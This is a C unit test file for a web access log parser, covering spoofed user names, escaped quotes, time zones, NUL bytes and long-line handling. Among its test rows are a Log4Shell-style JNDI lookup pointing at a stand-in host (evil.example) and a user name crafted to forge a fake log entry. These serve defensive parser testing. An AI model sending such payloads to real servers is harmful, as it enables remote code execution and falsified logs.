/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * test_weblog - access log lines of real servers, and what clients put into them
 *
 * A client chooses user name, path, referer and agent. Servers escape quotes, so
 * rows hold what an attacker can really get into a line: stamps, quotes with a
 * backslash, spaces, brackets, and bytes that are no request at all.
 */
#include "trace/weblog.h"

#include "unit.h"

struct row {
    const char *raw;
    int64_t when;
    const char *vhost, *client, *user, *method, *path, *query;
    unsigned status;
    uint64_t bytes;
    const char *referer, *agent;
};

#define T0 INT64_C(1795428000) /* 2026-11-23 10:00:00 UTC */

static const struct row rows[] = {
    /* combined, as Apache 2.4 of Debian wrote it */
    { "203.0.113.66 - - [23/Nov/2026:11:31:15 +0000] \"POST /phpBB/profile.php HTTP/1.1\" 200 189 "
      "\"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
      T0 + 5475, "", "203.0.113.66", "", "POST", "/phpBB/profile.php", "", 200, 189, "",
      "Mozilla/5.0 (X11; Linux x86_64)" },
    /* common */
    { "127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326",
      971211336, "", "127.0.0.1", "frank", "GET", "/apache_pb.gif", "", 200, 2326, "", "" },
    /* vhost_combined, with a query and a referer */
    { "forum.example.com:443 2001:db8::1 - - [23/Nov/2026:11:00:00 +0100] "
      "\"GET /a.php?x=1&y=2?3 HTTP/2.0\" 302 - \"https://forum.example.com/\" \"-\"",
      T0, "forum.example.com", "2001:db8::1", "", "GET", "/a.php", "x=1&y=2?3", 302, 0,
      "https://forum.example.com/", "" },
    /* a client that looks like host:port */
    { "2001:db8::1:80 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1", T0, "",
      "2001:db8::1:80", "", "GET", "/", "", 200, 1, "", "" },
    /* %v without a port; a host name as client (HostnameLookups) */
    { "www.example.com client.example.net - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
      T0, "www.example.com", "client.example.net", "", "GET", "/", "", 200, 1, "", "" },
    { "[::1]:80 192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1", T0, "[::1]",
      "192.0.2.1", "", "GET", "/", "", 200, 1, "", "" },
    /* identd answered */
    { "a.example:80 192.0.2.1 joe - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1", T0,
      "a.example", "192.0.2.1", "", "GET", "/", "", 200, 1, "", "" },
    /* X-Forwarded-For in front */
    { "198.51.100.9, 10.0.0.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1", T0, "",
      "198.51.100.9", "", "GET", "/", "", 200, 1, "", "" },
    /* a user name with a space; one that imitates all that follows it */
    { "192.0.2.1 - frank smith [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 401 1", T0, "",
      "192.0.2.1", "frank smith", "GET", "/", "", 401, 1, "", "" },
    { "192.0.2.1 - x [01/Jan/2001:00:00:00 +0000] \\\"POST /evil.php HTTP/1.1\\\" 200 1 "
      "[23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 401 1",
      T0, "", "192.0.2.1",
      "x [01/Jan/2001:00:00:00 +0000] \\\"POST /evil.php HTTP/1.1\\\" 200 1", "GET", "/", "", 401,
      1, "", "" },
    /* escaped quotes and bytes stay as they are; a stamp in the agent is none */
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /a\\\"b\\x0a HTTP/1.1\" 200 1 \"a\\\\\" "
      "\"x [01/Jan/2001:00:00:00 +0000] \\\"POST /\"",
      T0, "", "192.0.2.1", "", "GET", "/a\\\"b\\x0a", "", 200, 1, "a\\\\",
      "x [01/Jan/2001:00:00:00 +0000] \\\"POST /" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] "
      "\"GET /?${jndi:ldap://evil.example/a} HTTP/1.1\" 200 1 \"${jndi:dns://x}\" \"${jndi:x}\"",
      T0, "", "192.0.2.1", "", "GET", "/", "${jndi:ldap://evil.example/a}", 200, 1,
      "${jndi:dns://x}", "${jndi:x}" },
    /* a space in the path, HTTP/0.9, a proxy's request, CONNECT */
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /a b.php HTTP/1.1\" 200 1", T0, "",
      "192.0.2.1", "", "GET", "/a b.php", "", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /old\" 200 1", T0, "", "192.0.2.1", "",
      "GET", "/old", "", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET http://h.example/p?q=http://x/ HTTP/1.1\" "
      "200 1",
      T0, "", "192.0.2.1", "", "GET", "/p", "q=http://x/", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /r?u=http://x/y HTTP/1.1\" 200 1", T0, "",
      "192.0.2.1", "", "GET", "/r", "u=http://x/y", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET http://h.example HTTP/1.1\" 200 1", T0, "",
      "192.0.2.1", "", "GET", "/", "", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"CONNECT h.example:25 HTTP/1.1\" 405 1", T0, "",
      "192.0.2.1", "", "CONNECT", "h.example:25", "", 405, 1, "", "" },
    /* no request: a time-out, a TLS hello on the plain port */
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"-\" 408 - \"-\" \"-\"", T0, "", "192.0.2.1",
      "", "", "", "", 408, 0, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"\\x16\\x03\\x01 \\x01\" 400 226", T0, "",
      "192.0.2.1", "", "", "", "", 400, 226, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"\" - -", T0, "", "192.0.2.1", "", "", "", "",
      0, 0, "", "" },
    /* more fields behind: %D, a host */
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"r\" \"a\" 12345 \"h\"",
      T0, "", "192.0.2.1", "", "GET", "/", "", 200, 1, "r", "a" },
    /* the agent was cut by a full disk */
    { "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"r\" \"Moz", T0, "",
      "192.0.2.1", "", "GET", "/", "", 200, 1, "r", "" },
    /* a leap second, the furthest zones */
    { "192.0.2.1 - - [31/Dec/2016:23:59:60 +0000] \"GET / HTTP/1.1\" 200 1", 1483228800, "",
      "192.0.2.1", "", "GET", "/", "", 200, 1, "", "" },
    { "192.0.2.1 - - [24/Nov/2026:00:00:00 +1400] \"GET / HTTP/1.1\" 200 1", T0, "", "192.0.2.1",
      "", "GET", "/", "", 200, 1, "", "" },
    { "192.0.2.1 - - [23/Nov/2026:06:30:00 -0330] \"GET / HTTP/1.1\" 200 1", T0, "", "192.0.2.1",
      "", "GET", "/", "", 200, 1, "", "" },
};

static void check(struct str actual, const char *expected, const struct row *row, const char *what)
{
    if (!str_eq(actual, str_c(expected)))
        fail_msg("row %zu, %s: got \"%.*s\", expected \"%s\"\n%s", (size_t)(row - rows), what,
                 STR_ARG(actual), expected, row->raw);
}

static void test_rows(void **state)
{
    (void)state;
    for (const struct row *row = rows; row < rows + ROWS(rows); row++) {
        struct weblog_line line;
        int64_t when;
        if (weblog_parse(str_c(row->raw), &line) != 0)
            fail_msg("row %zu is no access log line: %s", (size_t)(row - rows), row->raw);
        check(line.vhost, row->vhost, row, "vhost");
        check(line.client, row->client, row, "client");
        check(line.user, row->user, row, "user");
        check(line.method, row->method, row, "method");
        check(line.path, row->path, row, "path");
        check(line.query, row->query, row, "query");
        check(line.referer, row->referer, row, "referer");
        check(line.agent, row->agent, row, "agent");
        if (line.when != row->when)
            fail_msg("row %zu: %lld is not %lld", (size_t)(row - rows), (long long)line.when,
                     (long long)row->when);
        assert_int_equal(line.status, row->status);
        assert_int_equal(line.bytes, row->bytes);
        assert_int_equal(weblog_when(str_c(row->raw), &when), 0);
        assert_int_equal(when, row->when);
    }
}

static const char *const others[] = {
    "",
    "-",
    "[",
    "[23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" OK 1",
    "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 2000 1",
    "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1",
    "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\"",
    "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] GET / HTTP/1.1 200 1",
    "192.0.2.1 - - [30/Feb/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 - - [23/nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 - - [23/Nov/2026:24:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 - - [23/Nov/20x6:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1",
    "192.0.2.1 - - [2026-11-23 10:00:00] \"GET / HTTP/1.1\" 200 1",
    "1795428000 5120",
    "2026-11-23 10:00:00 1FZ8zt-0005lz-E7 <= joe@example.com U=joe P=local S=1 T=\"x [ \\\" ]\"",
    "{\"time\":\"23/Nov/2026:10:00:00 +0000\",\"request\":\"GET / HTTP/1.1\"}",
};

static void test_other_lines(void **state)
{
    (void)state;
    for (size_t i = 0; i < ROWS(others); i++) {
        struct weblog_line line;
        if (weblog_parse(str_c(others[i]), &line) == 0)
            fail_msg("row %zu passed for an access log line: %s", i, others[i]);
    }
}

/* NUL bytes end nothing; a crash leaves them where a line was being written. */
static void test_nul(void **state)
{
    (void)state;
    struct weblog_line line;
    assert_int_equal(weblog_parse(STR("\0\0\0" "192.0.2.1 - - [23/Nov/2026:10:00:00 +0000] "
                                      "\"GET /a\0b HTTP/1.1\" 200 1"), &line), 0);
    assert_str(line.path, "/a\0b");
    assert_str(line.client, "\0\0\0" "192.0.2.1");
}

/* Half a megabyte of anything is read once, not once for each bracket or quote. */
static void test_long_lines(void **state)
{
    (void)state;
    enum { SIZE = 8 << 20 };
    static const char fillers[] = { '[', ' ', '"', '\\', ':', '/', 'x' };
    char *bytes = test_malloc(SIZE);
    for (size_t i = 0; i < ROWS(fillers); i++) {
        struct weblog_line line;
        int64_t when;
        memset(bytes, fillers[i], SIZE);
        assert_int_equal(weblog_parse(str_make(bytes, SIZE), &line), -1);
        assert_int_equal(weblog_when(str_make(bytes, SIZE), &when), -1);
        memcpy(bytes, "1.1.1.1 - - [23/Nov/2026:10:00:00 +0000] \"GET /", 47);
        if (weblog_parse(str_make(bytes, SIZE), &line) == 0)
            assert_int_equal(line.when, T0);
    }
    test_free(bytes);
}

/* Every prefix of every row: views stay inside. */
static void test_prefixes(void **state)
{
    (void)state;
    for (size_t i = 0; i < ROWS(rows); i++) {
        size_t n = strlen(rows[i].raw);
        for (size_t k = 0; k <= n; k++) {
            char *copy = test_malloc(k + 1);
            struct weblog_line line;
            memcpy(copy, rows[i].raw, k);
            if (weblog_parse(str_make(copy, k), &line) == 0) {
                assert_true(line.path.n <= k);
                assert_true(str_empty(line.agent) || line.agent.p + line.agent.n <= copy + k);
            }
            test_free(copy);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rows),
        cmocka_unit_test(test_other_lines),
        cmocka_unit_test(test_nul),
        cmocka_unit_test(test_long_lines),
        cmocka_unit_test(test_prefixes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
